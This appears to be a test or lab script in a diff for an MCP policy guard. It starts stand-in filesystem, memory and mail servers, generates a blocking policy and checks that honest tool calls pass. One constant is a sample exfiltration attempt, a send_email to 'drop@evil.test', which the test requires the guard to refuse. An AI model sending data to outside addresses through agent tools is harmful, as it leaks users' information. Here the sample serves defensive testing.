@@ -1,0 +1,198 @@
+"""From an agent with three servers to a policy that blocks: the commands, as a user types them.
+
+The client's configuration names a filesystem, a memory and a mail server as their documentation
+says to start them; on this machine an ``npx`` of our own starts stand-ins for them.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import difflib
+import json
+import os
+import shlex
+import subprocess
+import sys
+from contextlib import AsyncExitStack
+from pathlib import Path
+from typing import TYPE_CHECKING, Any, Final
+
+from mcp import ClientSession, StdioServerParameters
+from mcp.client.stdio import stdio_client
+
+from guard.adapters.loopback import free_port, start
+from guard.core.errors import GuardError
+from guard.settings import child_environment
+
+if TYPE_CHECKING:
+    from collections.abc import Mapping, Sequence
+
+    from mcp.types import CallToolResult
+
+PACKAGES: Final = {
+    "files": ("filesystem", "@modelcontextprotocol/server-filesystem"),
+    "notes": ("memory", "@modelcontextprotocol/server-memory"),
+    "mail": ("gmail", "@gongrzhe/server-gmail-autoauth-mcp"),
+}
+"""By name in the configuration: the stand-in, and the package."""
+NPX: Final = """#!/bin/sh
+case "$*" in
+{cases}
+esac
+exit 9
+"""
+SECONDS: Final = 120.0
+HONEST: Final[tuple[tuple[str, str, Mapping[str, str]], ...]] = (
+    ("files", "list_directory", {"path": "."}),
+    ("files", "read_text_file", {"path": "notes.txt"}),
+    ("notes", "search_nodes", {"query": "x"}),
+    ("mail", "search_emails", {"query": "figures"}),
+)
+"""What the set-up is for: server, tool and arguments."""
+ATTACK: Final = {"to": ["drop@evil.test"], "subject": "figures", "body": "as asked"}
+
+
+def commands_to_block(directory: Path) -> tuple[int, int, list[str]]:
+    """Set a guard up, and return commands typed, lines of policy written, and what was checked.
+
+    Raises:
+        GuardError: a command failed, or the guard that came of it does not do its work.
+    """
+    config = directory / "mcp.json"
+    _write_client(directory, config)
+    commands: list[Sequence[str]] = [
+        ("init", str(config), "--start", "--write-client", "--domain", "corp.example"),
+    ]
+    environment = _environment(directory)
+    policy = str(directory / "policy.yaml")
+    made = subprocess.run(  # noqa: S603  (our own command)
+        [sys.executable, "-m", "guard", *commands[0], "-o", policy],
+        env=environment,
+        capture_output=True,
+        text=True,
+        timeout=SECONDS,
+        check=False,
+    )
+    commands.append(_run_line(made.stdout + made.stderr))
+    proposed = _policies(directory)
+    refused = _tried(directory, config, commands[-1], environment)
+    if refused:
+        # What honest work needs and `init` did not see, its user writes, and starts the guard anew.
+        by_hand = directory / "by_hand.yaml"
+        by_hand.write_text(_mappings(refused), encoding="utf-8")
+        commands.append([*commands[-1], "--policy", str(by_hand)])
+        refused = _tried(directory, config, commands[-1], environment)
+    if refused:
+        raise GuardError(f"refused though mapped by hand: {', '.join(refused)}")
+    checked = [*(f"{tool} goes through" for _, tool, _ in HONEST), "mail to a stranger is refused"]
+    return len(commands), lines_written(proposed, _policies(directory)), checked
+
+
+def lines_written(proposed: Mapping[str, str], used: Mapping[str, str]) -> int:
+    """Return how many lines somebody has written into policies.
+
+    Args:
+        proposed: text of each file as ``guard init`` wrote it, by name.
+        used: likewise as the guard that blocks was given it.
+    """
+    written = 0
+    for name, text in used.items():
+        before = proposed.get(name, "").splitlines()
+        for line in difflib.ndiff(before, text.splitlines()):
+            written += line.startswith("+ ")
+    return written
+
+
+def _policies(directory: Path) -> dict[str, str]:
+    return {one.name: one.read_text("utf-8") for one in directory.glob("*.yaml")}
+
+
+def _mappings(tools: Sequence[str]) -> str:
+    """Return a policy that maps tools as reads."""
+    lines = [f"  - {{match: [{json.dumps(tool)}], role: retrieve}}" for tool in tools]
+    return "\n".join(["version: 1", "name: by-hand", "tools:", *lines, ""])
+
+
+def _tried(
+    directory: Path, config: Path, command: Sequence[str], environment: Mapping[str, str]
+) -> list[str]:
+    """Run the guard and call each server through it; return the honest calls that were refused.
+
+    Raises:
+        GuardError: the guard does not start, or a mail to a stranger was not refused.
+    """
+    words = ("-m", "guard", *command, "--admin", f"127.0.0.1:{free_port()}")
+    running = start(directory / "run.log", *words, environment=environment)
+    try:
+        running.wait_ready()
+        servers = json.loads(config.read_text("utf-8"))["mcpServers"]
+        return asyncio.run(_refused(servers, environment))
+    finally:
+        running.stop()
+
+
+def _write_client(directory: Path, config: Path) -> None:
+    servers: dict[str, Any] = {
+        name: {"command": "npx", "args": ["-y", package]} for name, (_, package) in PACKAGES.items()
+    }
+    servers["files"]["args"].append(str(directory))
+    config.write_text(json.dumps({"mcpServers": servers}, indent=2), encoding="utf-8")
+    tools = directory / "bin"
+    tools.mkdir()
+    cases = "\n".join(
+        f'*{package}*) exec "{sys.executable}" -m lab.adopt.stand_in {stand_in};;'
+        for stand_in, package in PACKAGES.values()
+    )
+    (tools / "npx").write_text(NPX.format(cases=cases), encoding="utf-8")
+    (tools / "npx").chmod(0o755)
+
+
+def _environment(directory: Path) -> dict[str, str]:
+    inherited = child_environment([])
+    return {
+        **inherited,
+        "PATH": f"{directory / 'bin'}{os.pathsep}{inherited.get('PATH', '')}",
+        "PYTHONPATH": str(Path(__file__).resolve().parents[2]),
+        "XDG_STATE_HOME": str(directory / "state"),
+    }
+
+
+def _run_line(said: str) -> list[str]:
+    for line in said.splitlines():
+        if line.startswith("run the guard: guard "):
+            return shlex.split(line.removeprefix("run the guard: guard "))
+    msg = f"`guard init` did not say how to run the guard: {said[-500:]}"
+    raise GuardError(msg)
+
+
+async def _refused(
+    servers: Mapping[str, Mapping[str, Any]], environment: Mapping[str, str]
+) -> list[str]:
+    """Return the honest calls that are refused.
+
+    Raises:
+        GuardError: a mail to a stranger is not.
+    """
+    refused = [
+        tool
+        for server, tool, arguments in HONEST
+        if (await _called(servers[server], environment, tool, dict(arguments))).isError
+    ]
+    if not (await _called(servers["mail"], environment, "send_email", ATTACK)).isError:
+        raise GuardError("a mail to a stranger went out")
+    return refused
+
+
+async def _called(
+    entry: Mapping[str, Any], environment: Mapping[str, str], tool: str, arguments: dict[str, Any]
+) -> CallToolResult:
+    async with AsyncExitStack() as stack:
+        started = StdioServerParameters(
+            command=entry["command"], args=entry["args"], env=dict(environment)
+        )
+        read, write = await stack.enter_async_context(stdio_client(started))
+        session = await stack.enter_async_context(ClientSession(read, write))
+        async with asyncio.timeout(SECONDS):
+            await session.initialize()
+            await session.list_tools()
+            return await session.call_tool(tool, arguments)
